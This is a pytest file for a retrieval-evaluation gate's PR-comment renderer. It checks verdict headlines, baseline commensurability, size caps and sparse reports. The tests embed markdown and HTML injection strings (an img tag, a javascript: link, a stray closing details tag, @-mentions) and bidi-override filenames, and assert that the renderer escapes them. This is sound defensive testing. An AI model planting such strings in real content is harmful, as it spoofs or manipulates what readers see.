"""The PR comment and job summary rendered from report.json (gate/rendering/comment.py).

Checks the first line for every verdict kind, that no delta is ever shown
against an incommensurable baseline, that hostile data (pipes, HTML,
backticks, @-mentions) renders inert, the 65,536-character cap and the 1 MiB
summary cap, and that a report missing any optional section still renders.
"""

from __future__ import annotations

import json
import re

import pytest

from gate.rendering import comment as rendering
from gate.rendering.markdown import fence
from gate.rendering.markdown_cut import COMMENT_LIMIT
from gate.report.document import _SCHEMA_PATH
from gate.report.spine import Report
from gate.report.typed import InvalidRecord


# The renderer reads the typed report (gate.report.spine); these tests write reports as the
# JSON they are, and read each one into its record as the comment job does.
def record(report):
    return report if isinstance(report, Report) else Report.from_dict(json.loads(json.dumps(report)))


def render_comment(report, **options):
    return rendering.render_comment(record(report), **options)


def render_summary(report, **options):
    return rendering.render_summary(record(report), **options)


def comment_sections(report, **options):
    return rendering.comment_sections(record(report), **options)


def headline(report, **options):
    return rendering.headline(record(report), **options)

HOSTILE = "| </details> @octocat <img src=x> `code` ``` [link](javascript:x) <!-- *b* ~~s~~ \\|"


# --------------------------------------------------------------------------- a full report


def _strata():
    rows = [
        ("navigational", 0.22, 31, -0.041, -0.070, -0.012, "damaged", True),
        ("error_string", 0.18, 25, -0.030, -0.055, -0.006, "damaged", True),
        ("entity_attribute", 0.15, 21, 0.090, 0.041, 0.140, "improved", False),
        ("migration", 0.06, 8, 0.050, 0.010, 0.100, "improved", False),
        ("how_to", 0.31, 44, 0.004, -0.020, 0.030, "untouched", False),
        ("tail", 0.08, 0, None, None, None, "not_measured", False),
    ]
    out = []
    for name, share, n, delta, low, high, direction, guarded in rows:
        row = {"stratum": name, "n": n, "share": share, "guarded": guarded, "direction": direction,
               "underpowered": n < 25}
        if n:
            row.update(baseline=0.6, candidate=0.6 + delta, delta=delta, ci_low=low, ci_high=high,
                       p_randomization=0.01, p_holm=0.03, wins=10, losses=12, ties=3, mde=0.05)
        out.append(row)
    return out


def _attribution():
    return {
        "factors": ["embedding", "ingestion"], "metric": "nDCG@10", "queries": 140,
        "cells": [
            {"name": f"embedding={a},ingestion={b}", "levels": {"embedding": a, "ingestion": b},
             "role": role, "mean": mean, "seconds": 1.5}
            for (a, b, role, mean) in (("old", "old", "baseline", 0.61), ("old", "new", "", 0.64),
                                       ("new", "old", "", 0.58), ("new", "new", "candidate", 0.598))
        ],
        "grid": {"rows": "embedding", "columns": "ingestion", "means": [[0.61, 0.64], [0.58, 0.598]],
                 "row_effects": [0.03, 0.018], "column_effects": [-0.03, -0.042], "interaction": -0.012},
        "effects": [
            {"id": "embedding|ingestion=new", "term": "embedding", "kind": "simple", "order": 1,
             "given": {"ingestion": "new"}, "estimate": -0.042, "ci_low": -0.07, "ci_high": -0.01,
             "p": 0.01, "p_holm": 0.03, "label": "in production"},
            {"id": "embedding×ingestion", "term": "embedding×ingestion", "kind": "interaction", "order": 2,
             "given": {}, "estimate": -0.012, "ci_low": -0.03, "ci_high": 0.01, "p": 0.3, "p_holm": 0.6,
             "label": "interaction"},
        ],
        "interaction_check": {"ways": {"embedding": -0.012, "ingestion": -0.012}, "agree": True,
                              "abs_diff": 0.0, "terms": [{"term": "embedding×ingestion"}]},
        "concentration": [
            {"term": "embedding", "given": {"ingestion": "new"}, "estimate": -0.042, "phrase": "concentrated",
             "queries": 19, "n": 140, "mean_movement": -0.2, "same_sign_total": -5.0, "same_sign_queries": 30,
             "opposite_sign_total": 1.0, "opposite_sign_queries": 10},
        ],
        "headline": {"text": "In production, switching embedding moves nDCG@10 by -0.042; switching ingestion "
                             "moves it by +0.018."},
        "readings": {"additivity": "If the two changes added up, switching both would score 0.610; it scores "
                                   "0.598, an interaction of -0.012.",
                     "interactions": ["Switching embedding is worth 0.012 less when ingestion is new."],
                     "concentration": ["Switching embedding with ingestion new: concentrated in 19 queries."],
                     "notes": []},
        "cost": {"grid_seconds": 6.0, "cells_total_seconds": 6.0, "runs": 4},
        "verification": {"queries_sha256": "a" * 64, "qrels_sha256": "b" * 64, "corpus_factor": "ingestion",
                         "corpus_sha256": {"old": "c" * 64, "new": "d" * 64}},
        "samples": 1000, "seed": 7, "ci_method": "percentile", "ci_note": "unadjusted 95% CIs", "bundle": None,
    }


def _per_query(n=140, text=None):
    rows = []
    for i in range(n):
        delta = ((i * 37) % 21 - 10) / 50.0
        row = {"query_id": f"q_{i:05d}", "stratum": ["navigational", "how_to", "tail"][i % 3],
               "baseline": 0.5, "candidate": 0.5 + delta, "delta": delta}
        if text is not None:
            row["query_id"] = f"{text(i)} {i}"
        rows.append(row)
    return rows


def full_report(**overrides):
    report = {
        "schema_version": "1.2", "command": "run", "suite": "docs-search", "metric": "nDCG@10",
        "query_count": 140,
        "candidate_config": {"path": "retrieval/config.yml", "sha256": "e" * 64},
        "inputs": {
            "queries": {"path": "eval/golden-v5.jsonl", "sha256": "1" * 64, "count": 140, "unit": "queries"},
            "qrels": {"path": "eval/qrels-v5.txt", "sha256": "2" * 64, "count": 706, "unit": "judgments"},
            "corpus": {"path": "snapshots/corpus-v2.jsonl", "sha256": "3" * 64, "count": 19672, "unit": "chunks"},
        },
        "tool": {"name": "retrieval-gate", "version": "0.1.0"},
        "baseline": {
            "mean": 0.610, "resolution": "replayed",
            "archived": {"metric": "nDCG@10", "mean": 0.61, "query_count": 80, "created": "2024-09-14T10:00:00+00:00",
                         "git_commit": "0123456789abcdef0123"},
            "differences": [{"input": "queries", "archived": "golden-v4.jsonl (80 queries)",
                             "current": "golden-v5.jsonl (140 queries)"}],
            "unattributed_changes": [{"input": "requirements.lock", "archived": "aaa", "current": "bbb"}],
            "description": "archived 0.610 on golden-v4 (80 q, qrels-v3) -> "
                           "replayed 0.598 on golden-v5 (140 q, qrels-v5)",
            "config_sha256": "f" * 64, "notes": [],
        },
        "candidate": {"mean": 0.598, "source": "runner"},
        "config_diff": [{"path": "embedding.model", "old": "lsa-128", "new": "lsa-char-256"},
                        {"path": "ingestion.parser", "old": "v1", "new": "v2"},
                        {"path": "rerank", "old": "<absent>", "new": {"model": "x", "top": 50}}],
        "attribution": _attribution(),
        "leakage": {"queries_checked": 140, "count": 2, "modes": ["exact"], "threshold": 0.85,
                    "matched": [{"query_id": "q_00014", "text": "how do i page through campaigns",
                                 "chunk_id": "faq/common-questions#q4", "mode": "exact", "score": 1.0, "tag": "new"},
                                {"query_id": "q_00016", "text": "how do i retry", "chunk_id": "faq/x#q5",
                                 "mode": "exact", "score": 1.0, "tag": "both"}],
                    "new": ["q_00014"], "both": ["q_00016"], "removed": [],
                    "recommendation": "exclude faq/common-questions from the snapshot or re-judge.",
                    "delta_with_leaked": -0.010, "delta_without_leaked": -0.012, "win_carried_by_leaks": False},
        "judged": {"k": 10, "baseline": {"judged": 0.8}, "candidate": {"judged": 0.72}, "drop": 0.08,
                   "judgment_limited": True,
                   "sensitivity": {"delta_unjudged_as_zero": -0.02, "delta_unjudged_as_top": 0.03,
                                   "delta_condensed": 0.001, "top_grade": 3, "unjudged_in_union": 91},
                   "unjudged_candidate_top": 120},
        "tuning": {"declared": True, "applies": False},
        "prompts": {"files_scanned": 2, "count": 1, "matches": [{"file": "prompts/rewrite.txt", "line": 2,
                                                                 "kind": "query_text", "query_id": "q_00001"}]},
        "reporting_set": {"name": "golden queries, without 1 leaked", "query_count": 140,
                          "excluded_leaked": ["q_00014"],
                          "held_out_only": False},
        "warnings": ["a tunable parameter changed with no tuning split declared"],
        "decision": {"rule": "calibrated", "margin": 0.02},
        "delta": {"mean": -0.012, "ci_low": -0.031, "ci_high": 0.008, "p_le_zero": 0.88, "samples": 10000,
                  "seed": 7, "method": "percentile", "wins": 61, "losses": 59, "ties": 20, "p_randomization": 0.21,
                  "randomization": "monte-carlo", "mde": 0.03, "sd": 0.1},
        "measures": {"nDCG@10": {"baseline": 0.610, "candidate": 0.598, "delta": -0.012},
                     "RR@10": {"baseline": 0.5, "candidate": 0.52, "delta": 0.02}},
        "delta_all_queries": {"query_count": 141, "mean": -0.010, "ci_low": -0.03, "ci_high": 0.01},
        "noise_band": {"runs": 10, "sd": 0.004, "range": 0.013, "threshold": 0.013, "delta_sd": 0.006,
                       "exceeded": False, "stale": False, "state": "current",
                       "sentence": "within the noise band: ±0.013 from 10 identical runs", "strata": {},
                       "unstable_queries": 3, "tie_floor": {"count": 4, "max_query_span": 0.2, "mean_shift": 0.001}},
        "strata": _strata(),
        "traffic": {"damaged": 0.4, "improved": 0.21, "untouched": 0.31, "unmeasured": 0.08,
                    "sentence": "40% of traffic damaged (navigational, error_string), 21% improved "
                                "(entity_attribute, migration), 31% untouched, 8% not measured",
                    "weighted_delta": -0.004, "weighted_ci_low": -0.02, "weighted_ci_high": 0.012,
                    "unweighted_delta": -0.012},
        "wins_sentence": "61 of 140 queries improved although the mean fell (59 worse, 20 unchanged)",
        "lift": {"rel_threshold": 1, "k_rank": 10, "k_recall": 100, "bucketed": 130, "no_relevant": 10,
                 "buckets": [{"bucket": b, "count": c, "mean_rr_delta": d, "mean_rank_movement": m,
                              "mean_recall_delta": 0.0, "tie_sensitive": 1}
                             for b, c, d, m in (("promoted", 30, 0.2, 2.0), ("demoted", 35, -0.2, -2.5),
                                                ("new_hit", 5, 0.5, None), ("lost_hit", 6, -0.5, None),
                                                ("unchanged_hit", 50, 0.0, 0.0), ("unchanged_miss", 4, None, None))]},
        "per_query": _per_query(),
        "goalposts": [{"path": "eval/qrels-v5.txt", "change": "modified"}],
        "verdict": {"kind": "fail",
                    "reasons": [{"code": "damaged_traffic",
                                 "message": "40% of traffic damaged (navigational, error_string); limit 20%",
                                 "limit": "20%"},
                                {"code": "non_inferior",
                                 "message": "non-inferior: nDCG@10 -0.012 [-0.031, +0.008] (margin -0.02), 140 q"},
                                {"code": "warning",
                                 "message": "a tunable parameter changed with no tuning split declared"}],
                    "improvement_shown": False, "exit_code": 1,
                    "reporting_set": {"name": "golden queries, without 1 leaked", "query_count": 140}},
    }
    report.update(overrides)
    return report


# --------------------------------------------------------------------------- helpers


def _split_row(line: str) -> list[str]:
    body = line.strip()
    if body.startswith("|"):
        body = body[1:]
    if body.endswith("|") and not body.endswith("\\|"):
        body = body[:-1]
    return re.split(r"(?<!\\)\|", body)


def tables(markdown: str) -> list[tuple[int, list[str]]]:
    """Every GFM table outside code fences: (line number of its header, its lines)."""
    lines = markdown.split("\n")
    found, i, fence = [], 0, None
    delimiter = re.compile(r"^\|(\s*:?-+:?\s*\|)+\s*$")
    while i < len(lines):
        line = lines[i]
        mark = re.match(r"^ {0,3}(`{3,}|~{3,})", line)
        if mark:
            if fence is None:
                fence = mark.group(1)
            elif mark.group(1)[0] == fence[0] and len(mark.group(1)) >= len(fence):
                fence = None
            i += 1
            continue
        if fence is None and "|" in line and i + 1 < len(lines) and delimiter.match(lines[i + 1].strip()):
            j = i + 2
            while j < len(lines) and lines[j].strip().startswith("|"):
                j += 1
            found.append((i, lines[i:j]))
            i = j
            continue
        i += 1
    return found


def assert_tables_well_formed(markdown: str) -> None:
    found = tables(markdown)
    for start, rows in found:
        width = len(_split_row(rows[0]))
        for offset, row in enumerate(rows):
            assert len(_split_row(row)) == width, \
                f"table at line {start}: row {offset} has a different cell count: {row!r}"
    return found


def assert_inert(markdown: str) -> None:
    assert "<img" not in markdown.lower()
    assert "@octocat" not in markdown
    assert "`code`" not in markdown
    assert "[link](javascript" not in markdown  # brackets arrive backslashed: no link
    assert "<!--" not in markdown
    # every <details> is ours and balanced
    assert markdown.count("<details>") == markdown.count("</details>")
    depth = 0
    for match in re.finditer(r"<details>|</details>", markdown):
        depth += 1 if match.group() == "<details>" else -1
        assert depth >= 0
    # the only fences are ours (the reproduce command), and they are closed
    fences = [line for line in markdown.split("\n") if re.match(r"^ {0,3}`{3,}", line)]
    assert len(fences) % 2 == 0


# --------------------------------------------------------------------------- the first line


@pytest.mark.parametrize("kind,emoji", [("pass", "✅"), ("fail", "❌"), ("inconclusive", "⚠️"),
                                        ("skipped", "⏭️"), ("accepted", "☑️")])
def test_first_line_carries_verdict_rule_delta_noise_and_count(kind, emoji):
    report = full_report()
    report["verdict"] = dict(report["verdict"], kind=kind)
    first = render_comment(report).split("\n", 1)[0]
    assert first.startswith(f"### {emoji} {kind} — ")
    assert "40% of traffic damaged (navigational, error\\_string)" in first
    assert "limit 20%" not in first  # the limit is in the reasons list below
    assert first.endswith("— nDCG@10 −0.012 [−0.031, +0.008], within noise ±0.013, judgment-limited — 140 q")
    assert first == "### " + headline(report)


def test_first_line_shortens_a_statistical_rule_that_repeats_the_interval():
    report = full_report(judged=None)
    report["verdict"] = {"kind": "pass", "reasons": [{"code": "non_inferior", "message":
                         "non-inferior within -0.02 (nDCG@10 -0.012 [-0.031, +0.008], 140 q)"}],
                         "improvement_shown": False, "exit_code": 0}
    assert headline(report) == ("✅ pass — non-inferior (margin −0.02) — nDCG@10 −0.012 [−0.031, +0.008], "
                                "within noise ±0.013 — 140 q")
    report["verdict"]["reasons"] = [{"code": "regression_shown", "message": "regression shown (x, 140 q)"}]
    report["verdict"]["kind"] = "fail"
    report["noise_band"] = dict(report["noise_band"], exceeded=True)
    # |delta| above the band while the interval crosses zero: nothing is shown to exceed the noise
    assert headline(report).startswith("❌ fail — regression shown — nDCG@10 −0.012 [−0.031, +0.008], noise ±0.013 —")
    report["delta"] = dict(report["delta"], ci_high=-0.004)
    assert headline(report).startswith("❌ fail — regression shown — nDCG@10 −0.012 [−0.031, −0.004], "
                                       "exceeds noise ±0.013")
    report["noise_band"] = dict(report["noise_band"], threshold=None, state="absent", sentence="no usable noise band")
    assert ", no noise band — 140 q" in headline(report)


def test_accepted_names_the_failed_rule_the_label_and_quotes_the_justification():
    report = full_report()
    failed_on = report["verdict"]["reasons"]
    report["accepted"] = {"label": "retrieval-gate:accept", "justification": "known trade-off, see #12",
                          "failed_on": failed_on}
    report["verdict"] = dict(report["verdict"], kind="accepted", exit_code=0, reasons=[
        {"code": "accepted", "message": "accepted on purpose (retrieval-gate:accept): known trade-off, see #12"},
        *failed_on])
    body = render_comment(report)
    assert body.startswith("### ☑️ accepted — 40% of traffic damaged (navigational, error\\_string), accepted "
                           "(retrieval-gate:accept) — nDCG@10 −0.012")
    assert "> ☑️ **Accepted** with the label retrieval-gate:accept: known trade-off, see #\u200b12" in body
    assert "accepted on purpose" not in body  # quoted once, not repeated among the reasons
    assert "- ❌ 40% of traffic damaged (navigational, error\\_string); limit 20%" in body
    plain = headline(report, markdown=False)
    assert "error_string" in plain and "\\_" not in plain
    # who accepted is not a key of the report: a report that claims one is refused, not shown
    report["accepted"]["by"] = "octocat"
    with pytest.raises(InvalidRecord, match="report.accepted has an unknown key 'by'"):
        headline(report)


def test_skipped_without_a_delta_shows_no_numbers():
    report = {"schema_version": "1.2", "command": "run", "suite": "docs", "metric": "nDCG@10",
              "inputs": {}, "tool": {"version": "0.1.0"},
              "verdict": {"kind": "skipped", "reasons": [{"code": "no_change",
                                                          "message": "the retrieval config did not change"}],
                          "improvement_shown": False, "exit_code": 0}}
    body = render_comment(report)
    assert body.split("\n", 1)[0] == "### ⏭️ skipped — the retrieval config did not change"
    assert "Δ" not in body


# --------------------------------------------------------------------------- commensurability


def test_no_delta_is_shown_against_an_incommensurable_baseline():
    report = full_report()
    report["baseline"] = {"resolution": None, "archived": None, "differences": [],
                          "description": "no baseline: no archived manifest at .retrieval-gate/baseline/manifest.yml"}
    report["verdict"] = {"kind": "inconclusive", "reasons": [{"code": "no_baseline",
                         "message": report["baseline"]["description"]}], "improvement_shown": False, "exit_code": 3}
    # even if a (stale) delta and strata were left in the report, none is shown
    body = render_comment(report)
    first = body.split("\n", 1)[0]
    assert first.startswith("### ⚠️ inconclusive — no baseline: no archived manifest")
    assert first.endswith("— no delta: the baseline is not commensurable")
    assert "−0.012" not in body and "-0.012" not in body and "+0.008" not in body
    assert "| measure |" not in body and "Strata" not in body and "Biggest" not in body
    assert "No commensurable baseline" in body
    assert "Δ with the leaked" not in body and "Attribution" not in body
    summary = render_summary(report)
    assert summary.split("\n", 1)[0] == first


def test_commensurability_sentence_and_differences():
    body = render_comment(full_report())
    assert ("Baseline **replayed**, the archived config re-run on today's queries: archived 0.610 on golden-v4 "
            "(80 q, qrels-v3) -&gt; replayed 0.598") in body
    assert "Archived 2024-09-14 at commit 0123456789ab." in body
    assert "| queries | golden-v4.jsonl (80 queries) | golden-v5.jsonl (140 queries) |" in body
    assert "- requirements.lock: aaa → bbb" in body


# --------------------------------------------------------------------------- sections


def test_full_comment_has_every_section_in_order_and_well_formed_tables():
    body = render_comment(full_report(),
                          reproduce_command="retrieval-gate run --config .retrieval-gate.yml --base abc123")
    order = ["### ❌ fail", "| **nDCG@10** | 0.610 | 0.598 | −0.012 | [−0.031, +0.008] |", "#### Commensurability",
             "#### What this PR changed", "| embedding ↓ · ingestion → |", "#### Validity", "#### Strata and traffic",
             "#### Movement buckets", "Biggest losses and wins", "Attribution in full", "#### Reproduce"]
    positions = [body.index(marker) for marker in order]
    assert positions == sorted(positions)
    assert "```sh\nretrieval-gate run --config .retrieval-gate.yml --base abc123\n```" in body
    assert "| rerank | *absent* | {\"model\": \"x\", \"top\": 50} |".replace('"', "&quot;") in body
    assert "- **Leakage**: 2 of 140 golden queries found in the corpus (1 new, 1 in both snapshots, 0 removed)." in body
    assert "⚠️ **Goalposts moved**" in body and "eval/qrels-v5.txt (modified)" in body
    assert "| tail | 8% | 0 | | | | n = 0, not measured |" in body
    assert "🔴 **damaged**" in body and "🟢 **improved**" in body
    # a warning already listed among the reasons is not repeated
    assert body.count("a tunable parameter changed with no tuning split declared") == 1
    found = assert_tables_well_formed(body)
    assert len(found) >= 8
    assert_inert(body)
    # the decision and why come first: headline, reasons and the measures table in the first lines
    head = "\n".join(body.split("\n")[:16])
    assert "40% of traffic damaged" in head and "| **nDCG@10** |" in head


def test_losses_and_wins_are_the_extremes_sorted_by_delta():
    report = full_report(per_query=[{"query_id": f"q{i}", "stratum": None, "baseline": 0.5,
                                     "candidate": 0.5 + d, "delta": d}
                                    for i, d in enumerate([0.1, -0.3, 0.0, 0.4, -0.05, 0.2])])
    body = render_comment(report)
    section = body[body.index("Biggest losses and wins"):]
    assert "(2 worse, 3 better, 1 unchanged of 6 queries)" in section
    losses = section[section.index("biggest losses"):section.index("biggest wins")]
    wins = section[section.index("biggest wins"):]
    assert losses.index("| q1 |") < losses.index("| q4 |")
    assert wins.index("| q3 |") < wins.index("| q5 |") < wins.index("| q0 |")
    assert "| query | baseline | candidate | Δ |" in section  # no stratum column: none known
    assert "| q3 | 0.500 | 0.900 | +0.400 |" in section


@pytest.mark.parametrize("attribution,expected", [
    ({"refused": "the cells do not share one qrels fingerprint"}, "**Attribution refused**: the cells do not share"),
    ({"error": "a grid cell could not be run: exit 1"}, "**Attribution not run**: a grid cell could not be run"),
    ({"bundle": {"text": "credit not apportioned: 5 changes would need 32 runs", "reason": "more than 3 factors",
                 "changed": ["a", "b", "c", "d", "e"]}, "factors": ["a", "b", "c", "d", "e"], "cells": [],
      "effects": [], "readings": {}, "metric": "nDCG@10"},
     "**Attribution: a bundle.** credit not apportioned: 5 changes would need 32 runs (more than 3 factors)"),
])
def test_attribution_variants(attribution, expected):
    body = render_comment(full_report(attribution=attribution))
    assert expected in body
    assert_tables_well_formed(body)


# --------------------------------------------------------------------------- hostile data


def _hostile_report():
    report = full_report(suite=HOSTILE, per_query=_per_query(text=lambda i: f"{HOSTILE} {i}"))
    for row in report["per_query"]:
        row["stratum"] = HOSTILE
    report["strata"][0]["stratum"] = HOSTILE
    report["config_diff"] = [{"path": HOSTILE, "old": HOSTILE, "new": {"k": HOSTILE}},
                             {"path": "a.b", "old": "x\ny | z", "new": ["|", "`"]}]
    report["attribution"]["factors"] = [HOSTILE, "ingestion"]
    report["attribution"]["grid"]["rows"] = HOSTILE
    report["attribution"]["headline"]["text"] = HOSTILE
    report["leakage"]["matched"][0]["text"] = HOSTILE
    report["leakage"]["matched"][0]["query_id"] = HOSTILE
    report["leakage"]["recommendation"] = HOSTILE
    report["traffic"]["sentence"] = HOSTILE
    report["wins_sentence"] = HOSTILE
    report["reporting_set"]["name"] = HOSTILE
    report["warnings"] = [HOSTILE]
    report["goalposts"] = [{"path": HOSTILE, "change": HOSTILE}]
    report["prompts"]["matches"][0]["file"] = HOSTILE
    report["baseline"]["description"] = HOSTILE
    report["baseline"]["differences"] = [{"input": HOSTILE, "archived": HOSTILE, "current": HOSTILE}]
    report["inputs"]["queries"]["path"] = HOSTILE
    report["candidate_config"]["path"] = HOSTILE
    report["verdict"]["reasons"].insert(0, {"code": "x", "message": HOSTILE})
    report["accepted"] = {"label": HOSTILE, "justification": HOSTILE + " @octocat"}
    return report


def test_hostile_data_renders_inert_in_the_comment():
    report = _hostile_report()
    body = render_comment(report, reproduce_command="retrieval-gate run --base `x` ``` @octocat <img src=x>")
    assert_tables_well_formed(body)
    # our own <details> only: the comment opens exactly as many as it closes, and data shows escaped
    assert "&lt;/details&gt;" in body and "&lt;img src=x&gt;" in body and "@\u200boctocat" in body
    assert "&#96;code&#96;" in body and "&#124;" in body
    # the reproduce command sits in a fence longer than any backtick run in it
    assert "````sh\nretrieval-gate run --base `x` ``` @octocat <img src=x>\n````" in body
    outside = body.replace("````sh\nretrieval-gate run --base `x` ``` @octocat <img src=x>\n````", "")
    assert_inert(outside)
    first = body.split("\n", 1)[0]
    assert first.startswith("### ") and "\n" not in first and "<" not in first
    assert headline(report).count("&#124;") >= 1


BIDI_IDS = ["\u202eexe.fdp", "a\u2066b\u2069", "\u200fx\u200e", "\u061cy", "\u202a\u202b\u202c\u202d\u2067\u2068z"]


def test_a_document_id_with_bidi_controls_cannot_reorder_the_comment_or_report_md():
    """A run's docno may hold bidi controls (the run reader, and so the HTTP runner, accept any
    character but blanks and controls): quoted in an error, a log tail or a command, each one
    shows as U+FFFD, inside code blocks too, where it would still reorder its line."""
    ids = " ".join(BIDI_IDS)
    report = full_report(candidate={"mean": None, "source": None, "error": f"docno {ids} twice",
                                    "log_tail": f"ranked {ids}\nq1 Q0 {ids} 1 2.0 run"})
    for key in ("delta", "measures", "strata"):
        report.pop(key)
    report["verdict"] = {"kind": "inconclusive", "reasons": [{"code": "runner_failed", "message": f"id {ids}"}],
                         "improvement_shown": False, "exit_code": 3}
    body = render_comment(report)
    assert "#### The candidate run failed" in body and "q1 Q0 \ufffdexe.fdp" in body
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]", body)
    assert fence("a\u202eb\n\u2066c") == "```\na\ufffdb\n\ufffdc\n```"


def test_hostile_log_tail_stays_inside_its_fence():
    report = full_report(candidate={
        "mean": None, "source": None, "error": HOSTILE, "log_tail": "line\n```\n" + HOSTILE + "\n````\nend"})
    for key in ("delta", "measures", "strata"):
        report.pop(key)
    report["verdict"] = {"kind": "inconclusive", "reasons": [{"code": "runner_failed", "message": HOSTILE}],
                         "improvement_shown": False, "exit_code": 3}
    body = render_comment(report)
    assert "#### The candidate run failed" in body
    fence = "`````"
    start = body.index(fence + "\n")
    end = body.index("\n" + fence + "\n", start + 1)
    assert "````\nend" in body[start:end]
    assert_inert(body[:start] + body[end + len(fence) + 2:])


def test_hostile_data_renders_inert_in_the_summary():
    summary = render_summary(_hostile_report())
    head = summary[: summary.index("#### Reproduce")]
    assert_inert(head)
    assert_tables_well_formed(summary)


# --------------------------------------------------------------------------- size


def _huge_report():
    report = full_report(per_query=_per_query(20_000, text=lambda i: f"query text {i} " + "word " * 20))
    report["config_diff"] = [{"path": f"index.shard_{i:05d}.params", "old": "x" * 200, "new": "y|" * 100}
                             for i in range(5_000)]
    return report


def test_a_huge_report_fits_the_comment_limit_dropping_detail_whole():
    report = _huge_report()
    sections = comment_sections(report)
    assert sum(len(md) for md, _ in sections) > COMMENT_LIMIT  # really too big
    body = render_comment(report)
    assert len(body) <= COMMENT_LIMIT
    assert body.startswith("### ❌ fail — ")
    assert "detail section" in body and "left out to stay under GitHub's 65,536-character comment limit" in body
    assert "#### Reproduce" in body and "#### Strata and traffic" in body
    # the capped config diff table is whole, and says how many keys it leaves out
    assert "| … | 4985 more keys |" in body
    assert_tables_well_formed(body)
    assert body.count("<details>") == body.count("</details>")


def test_a_tighter_limit_still_never_cuts_a_table():
    report = _huge_report()
    for limit in (20_000, 8_000, 4_000):
        body = render_comment(report, limit=limit)
        assert len(body) <= limit
        assert_tables_well_formed(body)
        assert body.count("<details>") == body.count("</details>")


def test_the_summary_stays_under_one_mebibyte():
    report = _huge_report()
    summary = render_summary(report)
    assert len(summary.encode("utf-8")) <= 1024 * 1024
    assert summary.startswith("### ❌ fail — ")
    assert_tables_well_formed(summary)
    assert summary.count("<details>") == summary.count("</details>")
    assert "The full report is too large for the job summary" in summary
    assert "All 5000 changed config keys" in summary  # the comment's detail stands in for it
    # a normal report: the comment's sections, then the full report
    normal = render_summary(full_report())
    assert normal.startswith(render_comment(full_report()).split("\n", 1)[0])
    assert "## retrieval-gate: fail" in normal and "### Commensurability" in normal
    assert normal.count("### Effects") == 1  # the attribution section once, from the full report
    assert len(normal.encode("utf-8")) < 1024 * 1024


# --------------------------------------------------------------------------- absent sections


OPTIONAL = ["suite", "query_count", "candidate_config", "inputs", "tool", "baseline", "candidate", "config_diff",
            "attribution", "leakage", "judged", "tuning", "prompts", "reporting_set", "warnings", "delta",
            "measures", "delta_all_queries", "noise_band", "strata", "traffic", "wins_sentence", "lift", "per_query",
            "goalposts", "verdict", "schema_version", "metric"]


SCHEMA = json.loads(_SCHEMA_PATH.read_text())


def _nullable(key: str) -> bool:
    schema = SCHEMA
    kind = schema["properties"][key].get("type")
    return kind is None or (isinstance(kind, list) and "null" in kind)


REQUIRED = [f.name for f in Report.keys() if f.metadata["required"]]


@pytest.mark.parametrize("key", [k for k in OPTIONAL if k not in REQUIRED])
def test_each_optional_section_may_be_absent_and_each_nullable_one_null(key):
    variants = ("absent", "null") if _nullable(key) else ("absent",)
    for variant in variants:
        report = full_report()
        if variant == "absent":
            report.pop(key)
        else:
            report[key] = None
        body = render_comment(report)
        assert body.startswith("### ")
        assert_tables_well_formed(body)
        render_summary(report)


@pytest.mark.parametrize("key", [k for k in OPTIONAL if k in REQUIRED] + [k for k in OPTIONAL if not _nullable(k)])
def test_a_required_key_left_out_or_a_section_null_that_may_not_be_is_refused_before_rendering(key):
    report = full_report()
    if key in REQUIRED:
        report.pop(key)
    else:
        report[key] = None
    with pytest.raises(InvalidRecord, match=f"report(.{key} must be| lacks the key '{key}')"):
        record(report)


def test_empty_and_minimal_reports_render():
    with pytest.raises(InvalidRecord, match="report lacks the key 'schema_version'"):
        record({})
    minimal = {"schema_version": "1.2", "command": "run", "metric": "nDCG@10", "inputs": {}, "tool": {"version": "0"},
               "suite": "s", "baseline": {"resolution": None, "description": "no baseline"},
               "verdict": {"kind": "inconclusive", "reasons": [], "improvement_shown": False, "exit_code": 3}}
    body = render_comment(minimal)
    assert body.split("\n", 1)[0] == "### ⚠️ inconclusive — no delta: the baseline is not commensurable"
    assert render_summary(minimal).startswith(body.split("\n", 1)[0])


def test_sparse_nested_values_render():
    report = full_report()
    report["strata"] = [{"stratum": "x", "n": 3}]
    report["traffic"] = {"sentence": "all untouched"}
    report["lift"] = {"buckets": [{"bucket": "promoted"}]}
    report["judged"] = {"judgment_limited": True}
    report["leakage"] = {"count": 0}
    report["tuning"] = {"applies": True}
    report["prompts"] = {"matches": []}
    report["attribution"] = {"factors": ["a"], "effects": []}
    report["per_query"] = [{"query_id": "q", "stratum": None, "baseline": None, "candidate": None, "delta": None},
                           {"query_id": "r", "stratum": None, "baseline": 0.5, "candidate": 0.6, "delta": 0.1}]
    report["noise_band"] = dict(report["noise_band"], threshold=None, state="stale")
    body = render_comment(report)
    assert_tables_well_formed(body)
    assert "noise band stale" in body.split("\n", 1)[0]


# --------------------------------------------------------------------------- a real report


def test_a_real_run_report_renders(tmp_path):
    from gate.inputs.config import load_config
    from gate.pipeline.archive import archive
    from gate.pipeline.run import run_gate
    from tests.support.small_world import small_world

    path = small_world(tmp_path, leak_in_new=True,
                  extra_config="strata:\n  shares: {how_to: 0.6, navigational: 0.4}\n  guarded: [navigational]\n")
    archive(load_config(path), progress=lambda m: None)
    (tmp_path / "retrieval.yml").write_text("ingestion: {parser: v2}\nboost: 2.0\n")
    report = json.loads(json.dumps(run_gate(load_config(path), progress=lambda m: None).report))
    body = render_comment(report, reproduce_command="retrieval-gate run --config gate.yml --base HEAD~1")
    first = body.split("\n", 1)[0]
    assert first.startswith("### ❌ fail — 3 golden queries newly appear in the candidate's corpus "
                            "(faq/common-questions) — nDCG@10 −")
    assert first.endswith("— 17 q")
    assert "| boost ↓ · ingestion → |" in body and "#### Strata and traffic" in body
    assert_tables_well_formed(body)
    summary = render_summary(report)
    assert "### Attribution" in summary or "#### Attribution" in summary
    assert_tables_well_formed(summary)


def test_a_value_that_starts_with_an_at_sign_mentions_no_one():
    report = full_report(suite="@octocat", per_query=_per_query(text=lambda i: "@octocat help"))
    report["strata"][0]["stratum"] = "@octocat"
    report["config_diff"] = [{"path": "@octocat", "old": "@octocat", "new": "@octocat"}]
    report["accepted"] = {"label": "@octocat", "justification": "@octocat"}
    report["verdict"] = dict(report["verdict"], kind="accepted")
    for text in (render_comment(report), render_summary(report), headline(report)):
        assert "@octocat" not in text
        assert "@\u200boctocat" in text


def test_a_malformed_grid_falls_back_to_the_headline():
    attribution = _attribution()
    attribution["grid"]["means"] = [[0.61, 0.64, 0.1]]
    body = render_comment(full_report(attribution=attribution))
    assert "In production, switching embedding moves nDCG@10 by −0.042" in body
    assert "| embedding ↓ · ingestion → |" not in body.split("Attribution in full")[0]
